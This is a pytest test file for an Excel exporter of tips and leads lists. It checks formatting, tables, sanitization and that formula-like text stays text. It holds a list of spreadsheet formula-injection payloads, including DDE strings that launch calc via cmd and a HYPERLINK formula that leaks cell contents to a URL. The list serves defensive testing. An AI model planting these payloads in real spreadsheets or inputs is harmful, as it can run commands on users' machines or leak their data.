import re
import tempfile
from datetime import datetime
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from defusedxml import ElementTree
from hypothesis import given
from hypothesis import strategies as st

from tests.export.factories import (
    ENGLISH,
    LISTS_ONLY,
    SHEETS,
    SWEDISH,
    WRITTEN_COLUMNS,
    calamine_rows,
    column_index,
    expected_row,
    file_index,
    openpyxl_book,
    openpyxl_sheet,
    report,
    row,
    sheet_names,
    sheet_rows,
    write,
)
from tests.helpers.examples import slow_examples
from vitec_desktop.export.export_spec import ExportSpec, ListContent
from vitec_desktop.export.xlsx.sanitize import TextChanges, sanitize_cell_text
from vitec_desktop.report.columns import Value
from vitec_desktop.report.formatting import column_heading
from vitec_desktop.report.language import Language
from vitec_desktop.report.lists import COLUMNS
from vitec_desktop.report.report import Row
from vitec_desktop.webservice.models import ListKind

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# Known attacks on people who open a spreadsheet.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"klicka")',
    "=cmd|' /C calc'!A0",
    "+46 8 123 45 67",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "- ring före advent",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    "＝1+1",
    "=",
    "==",
    "{=1+1}",
    "'=1+1",
    "#N/A",
    "#REF!",
    "TRUE",
    "1E5",
    "0123",
    "2026-10-01",
    '<a href="x">&amp;</a>',
    "]]>",
    " blank  ",
]

TIPS_SHEET = 9
TITLE = file_index(ListKind.TIPS, "tip.title")
MESSAGE = file_index(ListKind.TIPS, "tip.message")
DECISION_STATUS_ID = file_index(ListKind.TIPS, "estate.status.id")


def tip_with(**changes: Value) -> Row:
    return row(ListKind.TIPS, 0, **changes)


def read_tip(path: Path, number: int = 0) -> list[Any]:
    return calamine_rows(path, "Tips")[1 + number]


def sheet_xml(path: Path, number: int) -> Any:
    with ZipFile(path) as archive:
        return ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{number}.xml"))


@pytest.fixture
def target(tmp_path: Path) -> Path:
    return tmp_path / "Tips och leads.xlsx"


def test_the_result_counts_the_rows_of_each_list(target: Path) -> None:
    one = report()
    assert write(one, target, spec=LISTS_ONLY).rows == {kind: len(rows) for kind, rows in one.tables.items()}


@pytest.mark.parametrize("kind", ListKind)
def test_each_list_is_read_back_with_every_column_and_the_same_types(plain: Path, kind: ListKind) -> None:
    header, *rows = calamine_rows(plain, SHEETS[kind])
    assert header == [column_heading(column, SWEDISH) for column in WRITTEN_COLUMNS[kind]]
    assert rows == [expected_row(kind, expected) for expected in report().tables[kind]]
    assert isinstance(rows[0][0], datetime)


def test_openpyxl_reads_the_same(plain: Path) -> None:
    sheet = openpyxl_sheet(plain, "Tips")
    rows = [[("" if value is None else value) for value in values] for values in sheet.iter_rows(values_only=True)]
    mark = rows[0].index(" ")  # a formula here, its value for the other reader
    expected = sheet_rows(plain, "Tips")
    assert [[*line[:mark], *line[mark + 1 :]] for line in rows] == [
        [*line[:mark], *line[mark + 1 :]] for line in expected
    ]


def test_the_sheets_are_in_order_and_the_one_about_the_report_is_last(plain: Path) -> None:
    assert sheet_names(plain) == [
        "Mötesblad",
        "Handlingslista",
        "Topplista",
        "Per kontor",
        "Per månad",
        "Återkoppling",
        "Inkommande leads",
        "Utgående leads",
        "Tips",
        "Om rapporten",
    ]


def test_a_datetime_is_an_excel_date_shown_to_the_minute_and_not_rounded_up(target: Path) -> None:
    last = datetime(2026, 12, 31, 23, 59, 59, 999_999)
    write(report({ListKind.TIPS: [tip_with(createdAt=last)]}), target, spec=LISTS_ONLY)
    cell = openpyxl_sheet(target, "Tips")["A2"]
    assert cell.is_date
    assert cell.number_format == "yyyy-mm-dd hh:mm"
    assert cell.value == datetime(2026, 12, 31, 23, 59, 59)
    assert read_tip(target)[0] == datetime(2026, 12, 31, 23, 59, 59)


def test_a_datetime_before_excel_s_calendar_is_text(target: Path) -> None:
    write(report({ListKind.TIPS: [tip_with(createdAt=datetime(1, 1, 1))]}), target, spec=LISTS_ONLY)
    assert read_tip(target)[0] == "0001-01-01 00:00"


def test_text_that_looks_like_a_formula_stays_text(target: Path) -> None:
    write(report({ListKind.TIPS: [tip_with(tip_title=payload, tip_message=payload) for payload in PAYLOADS]}), target)
    _, *tips = calamine_rows(target, "Tips")
    head, *lines = openpyxl_sheet(target, "Tips").iter_rows()
    names = [cell.value for cell in head]
    places = [names.index(name) for name in ("Rubrik", "Meddelande", "Hela meddelandet")]
    for payload, tip, cells in zip(PAYLOADS, tips, lines, strict=True):
        expected = payload.replace("\r", "\n")
        assert [tip[TITLE], tip[MESSAGE]] == [expected, expected]
        title, cut, whole = (cells[place] for place in places)
        assert {title.data_type, cut.data_type, whole.data_type} == {"s"}, payload
        assert (title.value, cut.value, whole.value) == (expected, " ".join(expected.split()), expected)
        for cell in (title, cut, whole):
            assert bool(cell.quotePrefix) == (cell.value[0] in "=+-@\t\n＝#"), payload
    formulas = [cell for cell in sheet_xml(target, TIPS_SHEET).iter(f"{MAIN}c") if cell.find(f"{MAIN}f") is not None]
    assert {cell.get("r").rstrip("0123456789") for cell in formulas} == {"B"}  # the marks


def test_a_quoted_cell_does_not_change_its_neighbours(target: Path) -> None:
    tips = [tip_with(tip_title="=1", sender_name="+2", receiver_name="-3"), tip_with(tip_title="Villa")]
    write(report({ListKind.TIPS: tips}), target, spec=LISTS_ONLY)
    assert calamine_rows(target, "Tips")[1:] == [expected_row(ListKind.TIPS, tip) for tip in tips]
    assert not openpyxl_sheet(target, "Tips").cell(3, TITLE + 1).quotePrefix


def test_illegal_characters_are_replaced_and_counted(target: Path) -> None:
    tips = [tip_with(tip_title="Vi\x0blla\x00", tip_message="a\ud83db\ufffe"), tip_with(tip_title="Villa")]
    written = write(report({ListKind.TIPS: tips}), target)
    assert written.replaced_cells == 2
    tip = read_tip(target)
    assert [tip[TITLE], tip[MESSAGE]] == ["Vi\ufffdlla\ufffd", "a\ufffdb\ufffd"]


def test_a_text_too_long_for_a_cell_is_truncated_and_counted(target: Path) -> None:
    message = "åäö😀" * 20_000
    written = write(report({ListKind.TIPS: [tip_with(tip_message=message)]}), target)
    assert written.truncated_cells == 1
    text = read_tip(target)[MESSAGE]
    assert text.endswith("… [avkortat]")
    assert message.startswith(text.removesuffix("… [avkortat]"))
    assert len(text.encode("utf-16-le")) // 2 <= 32_767


def test_a_number_with_more_digits_than_excel_keeps_is_text(target: Path) -> None:
    write(report({ListKind.TIPS: [tip_with(estate_status_id=12_345_678_901_234_567)]}), target, spec=LISTS_ONLY)
    assert read_tip(target)[DECISION_STATUS_ID] == "12345678901234567"


def test_an_unknown_state_is_written_as_the_service_sent_it(target: Path) -> None:
    write(report({ListKind.TIPS: [tip_with(tip_state="=Sharked"), tip_with(tip_state="New")]}), target, spec=LISTS_ONLY)
    column = file_index(ListKind.TIPS, "tip.state")
    assert [line[column] for line in calamine_rows(target, "Tips")] == ["Status", "=Sharked", "Ny"]


def test_a_row_without_values_is_an_empty_row(target: Path) -> None:
    nothing: Row = (None,) * len(COLUMNS[ListKind.TIPS])
    write(report({ListKind.TIPS: [nothing, row(ListKind.TIPS, 1)]}), target, spec=LISTS_ONLY)
    assert openpyxl_sheet(target, "Tips").tables["Tips"].ref.endswith("3")
    assert read_tip(target, 1) == expected_row(ListKind.TIPS, row(ListKind.TIPS, 1))


def test_an_empty_list_has_its_header_and_a_table_of_one_empty_row(target: Path) -> None:
    write(report({}), target, spec=LISTS_ONLY)
    for kind, name in SHEETS.items():
        header, *rest = calamine_rows(target, name)
        assert header == [column_heading(column, SWEDISH) for column in WRITTEN_COLUMNS[kind]]
        assert not any(any(values) for values in rest)
        [table] = openpyxl_sheet(target, name).tables.values()
        assert re.fullmatch(r"A1:[A-Z]+2", table.ref)


def test_each_list_is_a_table_whose_columns_are_its_header(plain: Path) -> None:
    one = report()
    book = openpyxl_book(plain)
    names = []
    for kind, name in SHEETS.items():
        sheet = book[name]
        [table] = sheet.tables.values()
        names.append(table.displayName)
        assert table.column_names == [cell.value for cell in sheet[1]]
        assert table.ref == sheet.calculate_dimension()
        assert table.autoFilter.ref == table.ref
        assert sheet.max_row == len(one.tables[kind]) + 1
        assert sheet.auto_filter.ref is None
    assert len({name.casefold() for name in names}) == 3


def test_the_header_is_bold_frozen_and_printed_on_each_page(plain: Path) -> None:
    sheet = openpyxl_sheet(plain, "Tips")
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.print_title_rows == "$1:$1"
    assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 32767)
    assert sheet.oddFooter.right.text == "Sida &P av &N"
    about = openpyxl_sheet(plain, "Om rapporten")
    assert about.oddFooter.left.text == "Tips och leads 1–31 okt 2026"


def test_only_printed_texts_wrap_and_every_cell_is_in_the_middle_above_a_line(plain: Path) -> None:
    texts = ["Avsändare", "Mottagare", "Bostadsstatus", "Kontakt"]
    for name, expected in (
        ("Tips", ["Status", "Rubrik", *texts, "Meddelande"]),
        ("Inkommande leads", ["Status", "Namn på lead", *texts]),  # a message has one line
    ):
        head, *rows = openpyxl_sheet(plain, name).iter_rows()
        wrapped = [cell.value for cell, below in zip(head, rows[0], strict=True) if below.alignment.wrap_text]
        assert wrapped == expected
        assert {cell.alignment.vertical for line in rows for cell in line} == {"center"}
        assert {cell.border.bottom.color.rgb for line in rows for cell in line} == {"00D3D7DF"}


def test_columns_that_are_not_printed_are_as_wide_as_their_content_within_limits(target: Path) -> None:
    tips = [tip_with(sender_id="x" * 300, receiver_id="y" * 29, tip_id="z")]
    write(report({ListKind.TIPS: tips}), target, spec=LISTS_ONLY)
    sheet = openpyxl_sheet(target, "Tips")
    widths = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]}
    assert [widths[name] for name in ("Avsändarens id", "Mottagarens id", "Id")] == pytest.approx([40, 25.2, 9])


def test_excel_neither_computes_nor_repairs_the_file(plain: Path) -> None:
    """Each part has a content type, and its elements are in the order of the format."""
    with ZipFile(plain) as archive:
        assert archive.testzip() is None
        contents = ElementTree.fromstring(archive.read("[Content_Types].xml"))
        named = {element.get("PartName") for element in contents if element.get("PartName")}
        parts = {f"/{name}" for name in archive.namelist() if not name.endswith(".rels")} - {"/[Content_Types].xml"}
        assert parts == named
    order = ["sheetPr", "sheetViews", "sheetFormatPr", "cols", "sheetData"]
    order += ["conditionalFormatting", "printOptions", "pageMargins", "pageSetup", "headerFooter"]
    tags = [element.tag.removeprefix(MAIN) for element in sheet_xml(plain, TIPS_SHEET)]
    assert tags == [*order, "tableParts"]
    calculation = openpyxl_book(plain).calculation
    assert calculation.fullCalcOnLoad in (None, False)
    assert calculation.calcId >= 191029  # Excel computes a workbook of an older engine again, and asks to save it


def test_a_list_longer_than_a_sheet_continues_on_further_sheets(target: Path) -> None:
    tips = [row(ListKind.TIPS, number) for number in range(7)]
    write(report({ListKind.TIPS: tips}), target, max_sheet_rows=4, spec=LISTS_ONLY)
    sheets = ["Tips", "Tips (2)", "Tips (3)"]
    assert sheet_names(target)[2:] == [*sheets, "Om rapporten"]
    assert [len(calamine_rows(target, sheet)) - 1 for sheet in sheets] == [3, 3, 1]
    read = [line for sheet in sheets for line in calamine_rows(target, sheet)[1:]]
    assert read == [expected_row(ListKind.TIPS, tip) for tip in tips]
    tables = [table.displayName for sheet in openpyxl_book(target).worksheets[:-1] for table in sheet.tables.values()]
    assert len({table.casefold() for table in tables}) == 5


def test_a_list_that_fills_its_sheet_exactly_has_one_sheet(target: Path) -> None:
    tips = [row(ListKind.TIPS, number) for number in range(3)]
    write(report({ListKind.TIPS: tips}), target, max_sheet_rows=4, spec=LISTS_ONLY)
    assert sheet_names(target)[2:] == ["Tips", "Om rapporten"]


def test_shown_rows_are_written_with_their_order_and_columns(target: Path) -> None:
    one = report()
    tips = one.tables[ListKind.TIPS]
    title = column_index(ListKind.TIPS, "tip.title")
    spec = ExportSpec({ListKind.TIPS: ListContent([tips[2], tips[0]], [title, 0])})
    written = write(one, target, spec=spec)
    assert written.rows == {ListKind.TIPS: 2}
    assert sheet_names(target)[6:] == ["Tips", "Om rapporten"]
    assert calamine_rows(target, "Tips") == [
        ["Rubrik", "Skapat"],
        [tips[2][title], tips[2][0]],
        [tips[0][title], tips[0][0]],
    ]


def test_headings_and_labels_are_in_the_user_s_language(target: Path) -> None:
    words = {
        ("Columns", "Rubrik"): ("Heading",),
        ("States", "Ny"): ("New one",),
        ("Lists", "Tips"): ("Tips/colleagues",),
    }
    write(report(), target, Language("xx", words))
    header, first, *_ = calamine_rows(target, "Tips colleagues")
    assert header[:4] == ["Skapat", " ", "Status", "Heading"]
    assert first[1:3] == ["○", "New one"]


def test_the_workbook_is_written_in_english_too(target: Path) -> None:
    write(report(), target, ENGLISH)
    kinds = dict(zip(ListKind, sheet_names(target)[6:9], strict=True))
    for kind, sheet in kinds.items():
        assert calamine_rows(target, sheet)[0] == [column_heading(column, ENGLISH) for column in WRITTEN_COLUMNS[kind]]


@pytest.mark.slow
def test_progress_counts_report_rows_although_they_are_on_several_sheets(target: Path) -> None:
    progress: list[tuple[int, int]] = []
    tips = [row(ListKind.TIPS, number) for number in range(1000)]
    write(report({ListKind.TIPS: tips}), target, on_progress=lambda done, total: progress.append((done, total)))
    assert progress[0] == (0, 1000)
    assert progress[-1] == (1000, 1000)
    assert [done for done, _ in progress] == sorted(done for done, _ in progress)
    assert len({done for done, _ in progress}) == 8  # three thousand rows and some are written, on four sheets


def test_writing_leaves_no_temp_files(
    target: Path, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    passing = tmp_path_factory.mktemp("temp")
    monkeypatch.setattr(tempfile, "tempdir", str(passing))
    write(report(), target)
    assert list(passing.iterdir()) == []
    assert list(target.parent.iterdir()) == [target]


NASTY = st.text(
    st.one_of(
        st.characters(), st.characters(categories=["Cs", "Cc"]), st.sampled_from("=+-@_x0041\r\n\t\ufffe😀'\"<&>")
    ),
    max_size=60,
)


@slow_examples()
@given(st.lists(st.tuples(NASTY, NASTY, NASTY), min_size=1, max_size=8))
def test_calamine_reads_any_text_back_as_it_was_sanitized(target: Path, texts: list[tuple[str, str, str]]) -> None:
    tips = [tip_with(tip_title=title, tip_message=message, sender_name=name) for title, message, name in texts]
    write(report({ListKind.TIPS: tips}), target)
    name_place = file_index(ListKind.TIPS, "sender.name")
    for line, values in zip(calamine_rows(target, "Tips")[1:], texts, strict=True):
        expected = [_read_back(sanitize_cell_text(value, "", TextChanges())) for value in values]
        assert [line[TITLE], line[MESSAGE], line[name_place]] == expected


@slow_examples()
@given(NASTY.map(lambda text: f"Å{text[:20]}"))
def test_any_name_reaches_the_sheets_that_are_made_of_the_lists(target: Path, name: str) -> None:
    """Which a reader could not open at all if the XML of one of them were broken."""
    write(report({ListKind.TIPS: [tip_with(sender_name=name, receiver_name=name, tip_state="New")]}), target)
    cells = {
        sheet: _without_blanks("".join(str(value) for line in sheet_rows(target, sheet) for value in line))
        for sheet in sheet_names(target)
    }
    expected = _without_blanks(_read_back(sanitize_cell_text(name, "", TextChanges())))
    for sheet in ("Mötesblad", "Handlingslista", "Återkoppling", "Tips"):
        assert expected in cells[sheet], sheet


def _without_blanks(text: str) -> str:
    """Return a text without blanks and without the mark for what no cell can hold, which can be a blank too."""
    return "".join(character for character in text if not character.isspace() and character != "\ufffd")


def _read_back(text: str) -> str:
    """Return the text that a reader finds; a blank text is an empty cell."""
    return "" if text.isspace() else text.replace("_x005F_", "_")
